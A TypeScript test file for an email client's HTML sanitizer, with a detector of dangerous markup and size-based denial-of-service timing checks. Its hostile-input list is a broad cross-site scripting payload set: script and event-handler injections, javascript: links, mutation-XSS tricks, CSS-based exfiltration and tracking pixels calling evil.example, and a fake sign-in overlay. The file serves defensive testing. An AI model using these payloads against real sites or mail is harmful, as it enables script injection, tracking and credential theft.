import { parseDocument } from 'htmlparser2';

import { html } from '../../nodes/shared/html/html';
import { mailBody } from '../../nodes/SharedInbox/page/mail-body';
import { dataPicture, harmlessHtml } from '../../nodes/shared/html/harmless-html';
import { parseMail } from '../../nodes/shared/mail/message/parse';
import { htmlMail, plainMail } from './test-inbox';

const ALLOWED_PICTURE = /^data:image\/(png|jpe?g|gif|webp|bmp);base64,/i;
const ALLOWED_LINK = /^(https?:|mailto:|tel:)/i;
const FORBIDDEN = new Set(['script', 'style', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'meta', 'base', 'link', 'video', 'audio', 'source', 'picture', 'template', 'noscript', 'frame', 'frameset', 'applet', 'title', 'body', 'head', 'html', 'map', 'area']);

type ParsedNode = ReturnType<typeof parseDocument>['children'][number];

/** Everything in a piece of HTML that could run, load, submit or cover something; empty = harmless. */
function dangersIn(text: string): string[] {
	const found: string[] = [];
	const walk = (nodes: readonly ParsedNode[]): void => {
		for (const node of nodes) {
			if (node.type === 'directive' || node.type === 'comment' || node.type === 'cdata') found.push(node.type);
			if (!('attribs' in node)) continue;
			if (FORBIDDEN.has(node.name)) found.push(node.name);
			for (const [name, value] of Object.entries(node.attribs)) {
				if (/^on|^srcset$|^background$|^action$|^formaction$|^ping$|^xlink|^srcdoc$|^poster$|^id$|^class$|^name$/.test(name)) found.push(`${name}=${value}`);
				if (name === 'src' && !ALLOWED_PICTURE.test(value)) found.push(`src=${value}`);
				if (name === 'href' && !ALLOWED_LINK.test(value)) found.push(`href=${value}`);
				if (name === 'style' && /url|expression|@|\\|position|behavior|import|image\(|element|\/\*/i.test(value)) found.push(`style=${value}`);
				if (name === 'target' && value !== '_blank') found.push(`target=${value}`);
			}
			if (node.name === 'a' && node.attribs.rel !== 'noopener noreferrer') found.push('a link that tells where it was clicked');
			walk(node.children);
		}
	};
	walk(parseDocument(text).children);
	return found;
}

const HOSTILE: [string, string][] = [
	['a script', '<p>Hi</p><script>alert(1)</script>'],
	['a script in capitals with a break', '<SCRIPT\n>alert(1)</SCRIPT\n>'],
	['a script without an end', 'Hi <script>alert(1)'],
	['a split script', '<scr<script></script>ipt>alert(1)</scr<script></script>ipt>'],
	['a script from elsewhere', '<script src=//evil.example/x.js></script>'],
	['a picture that fails', '<img src=x onerror=alert(1)>'],
	['a picture that loads', '<img src="data:image/png;base64,AAAA" onload="alert(1)">'],
	['slashes for blanks', '<img/src=x/onerror=alert(1)>'],
	['a quote in an attribute', '<img src=\'x" onerror="alert(1)\'>'],
	['a backtick', '<img src=`javascript:alert(1)`>'],
	['an event on a paragraph', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
	['an unknown event', '<p onanimationstart=alert(1) style="animation:x 1s">x</p>'],
	['a body event', '<body onload=alert(1)>x'],
	['an svg script', '<svg><script>alert(1)</script></svg>'],
	['an svg event', '<svg onload=alert(1)><circle r=9></svg>'],
	['an svg animation', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
	['an svg foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
	['mathml', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
	['a mutation through math', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">'],
	['a mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
	['a mutation through a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
	['a title that ends', '<title></title><img src=x onerror=alert(1)></title>'],
	['a textarea that ends', '<textarea></textarea><script>alert(1)</script>'],
	['a template', '<template><script>alert(1)</script></template>'],
	['a comment that ends', '<!--><img src=x onerror=alert(1)>-->'],
	['a conditional comment', '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->'],
	['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
	['an xml processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
	['a javascript link', '<a href="javascript:alert(1)">x</a>'],
	['a javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
	['a javascript link with a null', '<a href="java\u0000script:alert(1)">x</a>'],
	['a javascript link in entities', '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>'],
	['a javascript link behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
	['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
	['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
	['a data link in capitals', '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>'],
	['a file link', '<a href="file:///etc/passwd">x</a>'],
	['a link that pings', '<a href="https://a.example" ping="https://evil.example">x</a>'],
	['a link into the same window', '<a href="https://a.example" target="_top" rel="opener">x</a>'],
	['a relative link into our page', '<a href="?action=sign-out">x</a>'],
	['a link without a scheme', '<a href="//evil.example">x</a>'],
	['an svg picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
	['a html picture', '<img src="data:text/html,<script>alert(1)</script>">'],
	['a remote picture', '<img src="https://evil.example/open.gif?who=ana">'],
	['a remote picture without a scheme', '<img src="//evil.example/open.gif">'],
	['a picture set', '<img srcset="https://evil.example/1.gif 1x"><picture><source srcset="https://evil.example/2.gif"></picture>'],
	['a background', '<table background="https://evil.example/b.gif"><tr><td background="https://evil.example/c.gif">x</td></tr></table>'],
	['a style sheet', '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y.gif)}</style>'],
	['a style element in a style attribute', '<p style="background:url(https://evil.example/z.gif)">x</p>'],
	['an escaped url', '<p style="background:\\75rl(https://evil.example/z.gif)">x</p>'],
	['a commented url', '<p style="background:u/**/rl(https://evil.example/z.gif)">x</p>'],
	['an image-set', '<p style="background-image:image-set(\'https://evil.example/z.gif\' 1x)">x</p>'],
	['an attribute reader', '<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=abc>'],
	['an expression', '<p style="width:expression(alert(1))">x</p>'],
	['a binding', '<p style="-moz-binding:url(https://evil.example/x.xml#y);behavior:url(x.htc)">x</p>'],
	['a cover over everything', '<div style="position:fixed;inset:0;z-index:9999;background-color:#fff">Session ended: sign in</div>'],
	['a linked style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
	['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
	['a base', '<base href="https://evil.example/"><a href="/x">x</a>'],
	['a form', '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>'],
	['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
	['an object', '<object data="https://evil.example/x.swf"><embed src="x.swf"></object>'],
	['a video', '<video poster="https://evil.example/p.gif"><source src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>'],
	['a name that shadows', '<img name=cookie id=location><a id=document class=top>x</a>'],
	['UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
	['an end of our page', '</div></body></html><script>alert(1)</script>'],
];

describe('a mail in HTML', () => {
	it.each(HOSTILE)('with %s is made harmless', (_, hostile) => {
		expect(dangersIn(harmlessHtml(hostile).text)).toEqual([]);
	});

	it('the check itself sees dangers', () => {
		for (const [, hostile] of HOSTILE.slice(0, 3)) expect(dangersIn(hostile)).not.toEqual([]);
		expect(dangersIn('<p style="background:url(x)"><img src=x><a href=javascript:1>')).toHaveLength(4);
	});

	it('keeps what people write', () => {
		const { text } = harmlessHtml('<p style="color:#333; font-weight: bold">Hello <b>you</b></p><ul><li>One</li></ul><table border="1"><tr><td colspan="2" style="padding:4px;background-color:rgb(1, 2, 3)">x</td></tr></table><a href="https://a.example/x?y=1&amp;z=2">go</a>');
		expect(text).toBe('<p style="color:#333;font-weight:bold">Hello <b>you</b></p><ul><li>One</li></ul><table border="1"><tr><td colspan="2" style="padding:4px;background-color:rgb(1, 2, 3)">x</td></tr></table><a href="https://a.example/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer">go</a>');
	});

	it('counts the pictures it did not load, and leaves their text', () => {
		const { text, remoteImages } = harmlessHtml('<img src="https://x.example/1.png" alt="Our <house>"><img src="//x.example/2.png"><img src="cid:none">');
		expect(remoteImages).toBe(2);
		expect(text).toContain('[Our &lt;house&gt;]');
	});

	it('shows the pictures that came along, but never an SVG', () => {
		const png = { mimeType: 'image/png', content: Buffer.from('picture') };
		expect(harmlessHtml('<img src="cid:logo@x">', (source) => dataPicture(source, (id) => (id === 'logo@x' ? png : undefined))).text).toContain(`src="data:image/png;base64,${png.content.toString('base64')}"`);
		expect(harmlessHtml('<img src="cid:logo">', (source) => dataPicture(source, () => ({ mimeType: 'image/svg+xml', content: Buffer.from('<svg/>') }))).text).not.toContain('data:');
	});

	it.each([
		['ten million characters', '<p>x</p>'.repeat(1_250_000)],
		['a hundred thousand open tags', '<div>'.repeat(100_000)],
		['a hundred thousand open brackets', '<'.repeat(100_000)],
		['one attribute of a million', `<a href="${'a'.repeat(1_000_000)}">x</a>`],
		['a style of a million declarations', `<p style="${'color:red;'.repeat(100_000)}">x</p>`],
		['a style of brackets', `<p style="color:${'rgb('.repeat(1_000)}">x</p>`],
		['a table in a table, deep', '<table><tr><td>'.repeat(50_000)],
		['links without an end', '<a href="https://a.example/'.repeat(30_000)],
	])('of %s takes no longer than three seconds', (_, huge) => {
		const begin = performance.now();
		harmlessHtml(huge);
		expect(performance.now() - begin).toBeLessThan(3000);
	});
});

describe('the frame of a mail', () => {
	it('shows text as it is written, with links that tell nobody', async () => {
		const body = (await mailBody(await parseMail(Buffer.from(plainMail({ text: 'Look <b>here</b>: https://a.example/x?a=1&b=2.\nBye' }))))).text;
		expect(body).toContain('Look &lt;b&gt;here&lt;/b&gt;: <a href="https://a.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">https://a.example/x?a=1&amp;b=2</a>.');
	});

	it('says how many pictures were left out', async () => {
		expect((await mailBody(await parseMail(Buffer.from(htmlMail('<p>Hi</p><img src="https://x.example/a.gif">'))))).text).toContain('1 picture on other servers not loaded');
	});

	it('reads half a million characters of web addresses in linear time', async () => {
		const mail = await parseMail(Buffer.from(plainMail({ text: 'https://'.repeat(60_000) })));
		const begin = performance.now();
		await mailBody(mail);
		expect(performance.now() - begin).toBeLessThan(1000);
	});
});

describe('templates', () => {
	it('escape whatever is put into them, in text and attributes', () => {
		expect(html`<a title="${`"><script>'&`}">${'<b>'}</a>`.text).toBe('<a title="&quot;&gt;&lt;script&gt;&#39;&amp;">&lt;b&gt;</a>');
	});

	it('take other templates as they are, lists one by one, and nothing for nothing', () => {
		expect(html`${[html`<i>1</i>`, '<', 0]}${null}${undefined}${false}`.text).toBe('<i>1</i>&lt;0');
	});
});
